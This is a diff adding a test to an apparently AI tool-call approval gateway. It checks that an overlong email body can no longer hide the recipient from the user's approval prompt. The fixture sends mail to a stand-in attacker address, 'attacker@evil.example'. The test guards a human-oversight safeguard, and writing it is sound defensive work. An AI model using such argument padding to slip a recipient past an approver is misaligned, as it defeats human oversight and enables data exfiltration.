@@ -88,6 +88,22 @@ async def test_declining_or_rejecting_in_the_client_denies_the_call(mode: str) -
     assert rejected.meta[ERROR_META_KEY]["details"]["reason"] == "spam"
 
 
+@pytest.mark.parametrize("mode", ["auto", "legacy"])
+async def test_the_elicitation_shows_every_argument_however_long_one_is(mode: str) -> None:
+    """Before: the arguments were cut at 2,000 characters of their JSON (keys sorted), so
+    a long ``body`` hid the ``to`` after it: the user approved a recipient never shown."""
+    kernel, _, rec = gateway(tools={"send_email": "REQUIRED"})
+    user = User({"decision": "approve"})
+    args = {"to": "attacker@evil.example", "body": "Quarterly report. " * 400}
+    async with kernel, Client(create_server(kernel), elicitation_handler=user, mode=mode) as c:
+        await c.call_tool("send_email", args)
+    [(message, _)] = user.questions
+    assert '"to": "attacker@evil.example"' in message
+    assert "characters not shown" in message and "toolwire approvals show" in message
+    assert len(message) < 4000
+    assert rec.runs == [{**args, "count": 1}]  # what runs is what was asked, in full
+
+
 async def test_edited_args_through_elicitation_are_validated_and_asked_again() -> None:
     kernel, p, rec = gateway(default="REQUIRED")
     user = User(
